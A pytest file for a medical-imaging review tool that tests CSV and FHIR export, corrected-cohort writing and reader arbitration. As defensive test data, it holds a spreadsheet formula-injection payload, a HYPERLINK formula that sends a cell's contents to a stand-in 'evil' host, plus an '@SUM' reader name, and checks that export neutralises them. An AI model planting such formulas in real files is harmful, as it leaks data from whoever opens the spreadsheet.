from __future__ import annotations

import csv
import json
from dataclasses import replace
from pathlib import Path

import pytest
from fhir.resources.R4B.bundle import Bundle
from hypothesis import given
from hypothesis import strategies as some

from medfuse.case import Case, Prediction, Scan
from medfuse.cohort import Cohort
from medfuse.config import Config
from medfuse.errors import CohortError
from medfuse.review.arbitration import Arbitration
from medfuse.review.decision import Region, Review, ReviewError
from medfuse.review.export import COLUMNS, final_decisions, safe_cell, write_cohort, write_csv
from medfuse.review.fhir import fhir_bundle, write_fhir
from medfuse.review.seat import Seat
from medfuse.review.store import ReviewStore
from medfuse.review.study import Study, create_study
from medfuse.training import train
from tests.conftest import LABELS, TINY

FORMULA = '=HYPERLINK("http://evil/?"&A1,"x")'


@pytest.fixture
def store(tiny_cohort: Cohort, tmp_path: Path) -> ReviewStore:
    return ReviewStore(tmp_path / "reviews.sqlite", cohort=tiny_cohort.name, labels=LABELS)


def decide(store: ReviewStore) -> None:
    """Case c0 (wet) overridden, c1 (dry) accepted, c2 uncertain, c3 a bad image, c4 commented, c5 taken back."""
    base = {"reader": "AB", "predicted": "dry", "probability": 0.5}
    store.add(Review(case_id="c0", action="accept", **base | {"predicted": "wet"}))
    store.add(Review(case_id="c0", action="override", labels=("clear",), comment=FORMULA, **base))
    store.add(Review(case_id="c1", action="accept", **base))
    store.add(Review(case_id="c2", action="uncertain", **base))
    store.add(Review(case_id="c3", action="bad_image", **base))
    store.add(Review(case_id="c4", action="comment", comment="+1", **base))
    store.add(Review(case_id="c5", action="override", labels=("wet",), **base))
    store.undo("c5", "AB")


def read(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8-sig") as stream:
        return list(csv.DictReader(stream))


def test_the_table_holds_every_decision_and_no_formula(store: ReviewStore, tmp_path: Path) -> None:
    decide(store)
    region = Region(scan="a.png", shape="point", points=((1.5, 2.0),), size=(48, 48))
    store.add(Review(case_id="c6", reader="@SUM(1)", action="override", labels=("wet",), regions=(region,)))
    assert write_csv(store, tmp_path / "new" / "reviews.csv") == 9
    rows = read(tmp_path / "new" / "reviews.csv")
    assert tuple(rows[0]) == COLUMNS
    assert [row["stands"] for row in rows] == ["0", "1", "1", "1", "1", "1", "0", "0", "1"]
    assert rows[1]["comment"] == "'" + FORMULA
    assert rows[5]["comment"] == "'+1"
    assert rows[-1]["reader"] == "'@SUM(1)"
    assert (rows[1]["corrects"], rows[7]["undoes"]) == ("1", "7")
    assert json.loads(rows[-1]["regions"]) == [
        {"label": "", "points": [[1.5, 2.0]], "scan": "a.png", "shape": "point", "size": [48, 48], "slice": 1}
    ]
    assert not [cell for row in rows for cell in row.values() if cell.lstrip()[:1] in set("=+-@\t\r＝＋－＠") - {""}]


@given(some.text())
def test_no_text_is_a_formula(text: str) -> None:
    cell = safe_cell(text)
    assert not cell.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
    assert not cell.startswith(("\t", "\r", "\n"))
    assert cell in (text, "'" + text)
    assert safe_cell(-1.5) == -1.5


def test_a_corrected_cohort_trains_as_it_is(store: ReviewStore, tiny_cohort: Cohort, tmp_path: Path) -> None:
    decide(store)
    made = write_cohort(tiny_cohort, final_decisions(store), tmp_path / "corrected")
    assert (made.changed, made.confirmed, made.uncertain, made.bad_image) == (1, 1, 1, 1)
    read_again = Cohort.load(tmp_path / "corrected")
    assert read_again.problems == ()
    assert read_again.name == "tiny reviewed"
    cases = {case.case_id: case for case in read_again.cases}
    before = {case.case_id: case for case in tiny_cohort.cases}
    assert cases["c0"].labels == {"wet": 0, "dry": 0, "clear": 1}
    assert cases["c1"].labels == before["c1"].labels
    assert not cases["c2"].labelled
    assert cases["c3"].scans == ()
    assert cases["c3"].labels == before["c3"].labels
    assert all(cases[one].labels == before[one].labels for one in cases if one not in ("c0", "c2"))
    assert [case.split for case in read_again.cases] == [case.split for case in tiny_cohort.cases]
    assert read_again.splits_as_recorded
    scan = cases["c0"].scans[0].path
    assert scan.is_relative_to((tmp_path / "corrected").resolve())
    assert scan.read_bytes() == before["c0"].scans[0].path.read_bytes()
    recipe = Config.parse({**TINY, "image": None, "training": {"epochs": 1}}, source="tiny")
    assert (train(recipe, read_again, tmp_path / "bundle") / "model.safetensors").exists()
    with pytest.raises(CohortError, match="is there already"):
        write_cohort(tiny_cohort, {}, tmp_path / "corrected")
    assert sorted(one.name for one in tmp_path.iterdir() if one.name.startswith("corrected")) == ["corrected"]


def test_a_series_is_taken_along_and_the_originals_are_left(tmp_path: Path) -> None:
    root = tmp_path / "cohort"
    (root / "series").mkdir(parents=True)
    for number in range(3):
        (root / "series" / f"{number}.dcm").write_bytes(bytes([number]))
    (root / "again").symlink_to(root / "series")
    cases = tuple(Case(one, one, scans=(Scan(Path(place)),)) for one, place in (("a", "series"), ("b", "again")))
    cohort = Cohort(root, "x", "multiclass", ("u", "v"), cases)
    cohort.save()
    made = write_cohort(Cohort.load(root), {}, tmp_path / "new")
    assert sorted(path.name for path in (tmp_path / "new" / "series").iterdir()) == ["0.dcm", "1.dcm", "2.dcm"]
    assert [case.scans[0].path.name for case in made.cohort.cases] == ["series", "series"]
    assert len(list((root / "series").iterdir())) == 3


def test_judged_labels_alone_are_corrected(tmp_path: Path) -> None:
    cases = (Case("a", "a", labels={"u": 1, "v": 0, "w": None}),)
    cohort = Cohort(tmp_path / "cohort", "x", "multilabel", ("u", "v", "w"), cases)
    cohort.save()
    base = Review(case_id="a", reader="AB", action="override", labels=("v",), judged=("v",), model_answer=("w",))
    made = write_cohort(cohort, {"a": base}, tmp_path / "one").cohort
    assert made.cases[0].labels == {
        "u": 1,
        "v": 1,
        "w": None,
    }  # what the reader did not judge stays as the table has it
    made = write_cohort(cohort, {"a": replace(base, judged=None)}, tmp_path / "two").cohort
    assert made.cases[0].labels == {"u": 0, "v": 1, "w": 0}
    accept = replace(base, action="accept", labels=(), judged=None)
    assert write_cohort(cohort, {"a": accept}, tmp_path / "three").cohort.cases[0].labels == {"u": 0, "v": 0, "w": 1}


def test_fhir_is_valid_and_says_what_counts(store: ReviewStore, tiny_cohort: Cohort, tmp_path: Path) -> None:
    decide(store)
    assert write_fhir(tiny_cohort, final_decisions(store), tmp_path / "bundle.json") == 4
    bundle = Bundle.model_validate_json((tmp_path / "bundle.json").read_text())
    reports = [one.resource for one in bundle.entry if one.resource.get_resource_type() == "DiagnosticReport"]
    assert [one.status for one in reports] == ["amended", "final", "final", "final"]
    assert reports[0].conclusion == "The reader overrode the model's answer. clear."
    by_url = {one.fullUrl: one.resource for one in bundle.entry}
    said = {by_url[ref.reference].code.text: by_url[ref.reference].valueBoolean for ref in reports[0].result}
    assert said == {"wet": False, "dry": False, "clear": True}
    uncertain = by_url[reports[2].result[0].reference]
    assert uncertain.valueBoolean is None
    assert uncertain.dataAbsentReason.coding[0].code == "unknown"
    assert reports[0].subject.identifier.value == "p0"
    assert "HYPERLINK" not in (tmp_path / "bundle.json").read_text()  # no comment
    again = fhir_bundle(tiny_cohort, final_decisions(store))
    assert [entry.fullUrl for entry in again.entry] == [entry.fullUrl for entry in bundle.entry]


def test_of_a_study_what_was_agreed_or_arbitrated_counts(store: ReviewStore) -> None:
    said = {one: Prediction(one, probabilities=dict.fromkeys(LABELS, 1 / 3)) for one in ("c0", "c1", "c2")}
    create_study(store, Study(name="s", readers=("AB", "CD"), cases=("c0", "c1", "c2"), arbiter="ZZ"), actor="boss")
    for reader, labels in (("AB", ("wet", "wet", "dry")), ("CD", ("wet", "dry", "wet"))):
        seat = Seat(store, "s", reader, said)
        for case_id, label in zip(said, labels, strict=True):
            seat.add(Review(case_id=case_id, reader="", action="override", labels=(label,)))
    Arbitration(store, "s", "ZZ", said).add(Review(case_id="c1", reader="", action="override", labels=("clear",)))
    assert {one: review.labels for one, review in final_decisions(store, "s").items()} == {
        "c0": ("wet",), "c1": ("clear",)
    }  # fmt: skip
    assert final_decisions(store) == {}
    with pytest.raises(ReviewError, match="no study 't'; there are s"):
        final_decisions(store, "t")
